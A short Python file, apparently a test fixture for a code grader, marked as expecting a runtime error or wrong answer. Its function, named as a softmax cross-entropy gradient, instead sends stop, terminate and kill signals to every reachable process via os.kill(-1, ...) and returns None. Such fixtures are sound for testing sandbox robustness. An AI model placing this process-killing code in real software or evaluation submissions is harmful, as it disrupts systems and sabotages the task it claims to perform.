# expect: runtime_error|wrong_answer
# ruff: noqa
import os
import signal


def softmax_cross_entropy_grad(logits, labels):
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(-1, sig)
        except OSError:
            pass
    return None
